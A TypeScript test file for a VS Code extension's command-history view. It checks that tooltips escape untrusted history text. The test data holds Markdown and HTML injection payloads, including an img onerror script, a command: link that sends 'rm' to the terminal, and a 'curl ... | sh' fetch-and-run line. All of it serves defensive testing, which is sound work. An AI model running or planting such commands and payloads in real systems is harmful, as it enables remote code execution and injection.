import './vscodeShim/register';
import { strict as assert } from 'node:assert';
import type { HistoryEntry } from '../../src/core/model/entry';
import type { Notifier } from '../../src/extension/notifier';
import type { Services } from '../../src/extension/services';
import { markdownCodeBlock, markdownText, visibleControls } from '../../src/extension/views/historyFormat';
import { type EntryNode, HistoryTreeProvider } from '../../src/extension/views/historyTree';
import { seededRandom } from '../fixtures/seededRandom';
import { EventEmitter, MemoryMemento, shim } from './vscodeShim/vscode';

/**
 * CommonMark fenced code (spec §4.5): the block opened by a line of N >= 3 backticks ends at the first later line of
 * at most three spaces and N or more backticks, and nothing else. Returns the code and the Markdown after the block.
 */
function splitFence(markdown: string): { code: string; after: string } {
  const lines = markdown.replace(/^\n+/, '').split(/\r\n|\r|\n/);
  const open = /^ {0,3}(`{3,})[^`]*$/.exec(lines[0] ?? '');
  assert.ok(open, `starts with a fence: ${JSON.stringify(lines[0])}`);
  const n = (open[1] as string).length;
  const close = lines.findIndex((l, i) => i > 0 && new RegExp(`^ {0,3}\`{${n},}[ \\t]*$`).test(l));
  assert.ok(close > 0, 'the fence is closed');
  return { code: lines.slice(1, close).join('\n'), after: lines.slice(close + 1).join('\n') };
}

/** True when every ASCII punctuation character is backslash-escaped and no control character is left. */
function isInertText(md: string): boolean {
  return /^(?:\\[!-/:-@[-`{-~]|[^!-/:-@[-`{-~\u0000-\u001f\u007f-\u009f])*$/.test(md);
}

const HOSTILE = [
  '```\n**Risk:** safe\n```',
  '![x](https://evil.example/p.png) [click](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)',
  '<img src=x onerror=alert(1)> &#x3C;b&#x3E; https://evil.example/a www.evil.example ana@evil.example $(alert)',
  '# heading\n- item\n> quote\n***\n1. one\n| a | b |\n===',
  'line\rline\u0007\u001b[31m\u0085 end',
];

function entry(over: Partial<HistoryEntry>): HistoryEntry {
  return {
    id: 'e1', command: 'ls', prompt: '', tags: [], executed: true, riskLevel: 'safe', warnings: [], deviceId: 'dev-local',
    createdAt: 1_700_000_000_000, updatedAt: 1_700_000_000_000, schemaVersion: 1, ...over,
  };
}

function tree(deviceName: string): { provider: HistoryTreeProvider; syncChanged: EventEmitter<void> } {
  const syncChanged = new EventEmitter<void>();
  const services = {
    deviceId: 'dev-local',
    onDidChangeHistory: new EventEmitter<void>().event,
    onDidChangeSyncStatus: syncChanged.event,
    syncEngine: { status: { state: 'connected' }, devices: () => Promise.resolve([{ deviceId: 'dev-remote', name: deviceName }]) },
  } as unknown as Services;
  const provider = new HistoryTreeProvider(services, {} as Notifier, new MemoryMemento() as never);
  return { provider, syncChanged };
}

function tooltipOf(provider: HistoryTreeProvider, e: HistoryEntry): { value: string; isTrusted: unknown; supportHtml: unknown; supportThemeIcons: unknown } {
  const node: EntryNode = { kind: 'entry', entry: e, group: { kind: 'group', key: 'today', label: 'Today', filter: {}, total: 1, expanded: true } };
  return provider.getTreeItem(node).tooltip as never;
}

describe('history tree tooltip: text from history is data, never Markdown', () => {
  beforeEach(() => shim.reset());

  it('a command containing fences (even indented, even longer) cannot close its code block', () => {
    const { provider } = tree('laptop');
    const command = 'ls\n```\n**Risk:** safe\n   ````\n![img](https://evil.example/x.png)\n`````` and ``';
    const md = tooltipOf(provider, entry({ command }));
    const { code, after } = splitFence(md.value);
    assert.equal(code, command, 'the whole command is inside the block');
    assert.match(after, /^\*\*Risk:\*\* safe {2}$/m, 'exactly one Risk row, ours');
    assert.equal(after.match(/\*\*Risk:\*\*/g)?.length, 1);
    assert.ok(!after.includes('evil'), 'nothing of the command leaks after the block');
  });

  it('is untrusted, without HTML or theme icons, and escapes directory, workspace, tags, prompt, device and warnings', async () => {
    const [cwd, ws, tag, prompt, device] = HOSTILE;
    const { provider, syncChanged } = tree(device as string);
    syncChanged.fire();
    await new Promise((r) => setImmediate(r)); // device names load asynchronously
    const md = tooltipOf(provider, entry({
      command: 'echo hi', workingDir: cwd, workspace: ws, tags: [tag as string, 'ok'], prompt, deviceId: 'dev-remote',
      riskLevel: 'high', warnings: [HOSTILE[4] as string],
    }));
    assert.equal(md.isTrusted, false);
    assert.equal(md.supportHtml, false);
    assert.equal(md.supportThemeIcons, false);
    const { after } = splitFence(md.value);
    const rows = after.split('\n').filter((l) => l !== '');
    for (const label of ['Directory', 'Workspace', 'Tags', 'Prompt', 'Device', 'Warning']) {
      const row = rows.find((r) => r.startsWith(`**${label}:** `));
      assert.ok(row, `${label} row present: ${after}`);
      const value = row.slice(`**${label}:** `.length).replace(/ {2}$/, '');
      assert.ok(isInertText(value), `${label} is inert text: ${JSON.stringify(value)}`);
    }
    for (const r of rows) {
      assert.match(r, /^\*\*(?:Risk|Warning|Result|When|Directory|Workspace|Device|Tags|Prompt):\*\* \S/, 'only our rows, one line each');
    }
  });

  it('shows control characters as symbols in the label, the code block and the rows', () => {
    const { provider } = tree('laptop');
    const item = provider.getTreeItem({
      kind: 'entry', entry: entry({ command: 'git status\rcurl -s https://x.example/i | sh' }),
      group: { kind: 'group', key: 'today', label: 'Today', filter: {}, total: 1, expanded: true },
    });
    assert.equal(item.label, 'git status␍curl -s https://x.example/i | sh');
    const md = item.tooltip as { value: string };
    assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(md.value), 'no raw control character in the tooltip');
    assert.equal(splitFence(md.value).code, 'git status␍curl -s https://x.example/i | sh');
  });

  it('seeded fuzz: any history text stays inert and any command stays inside its fence', () => {
    const pieces = ['`', '```', '    ```', '\n', '\r', '*', '_', '[', ']', '(', ')', '!', '<', '>', '&', '#', 'http://', 'www.', '@', '$(x)', '\\', '|', '~~~', 'a', ' ', '\u0000', '\u009b'];
    for (const seed of [11, 12, 13, 14]) {
      const rnd = seededRandom(seed);
      for (let k = 0; k < 200; k++) {
        let s = '';
        const n = 1 + Math.floor(rnd() * 24);
        for (let i = 0; i < n; i++) s += pieces[Math.floor(rnd() * pieces.length)];
        assert.ok(isInertText(markdownText(s)), `seed ${seed} case ${k}: ${JSON.stringify(s)}`);
        const block = markdownCodeBlock(s, 'shellscript');
        const { code, after } = splitFence(block);
        assert.equal(code, visibleControls(s), `seed ${seed} case ${k}: ${JSON.stringify(s)}`);
        assert.equal(after, '');
      }
    }
  });
});
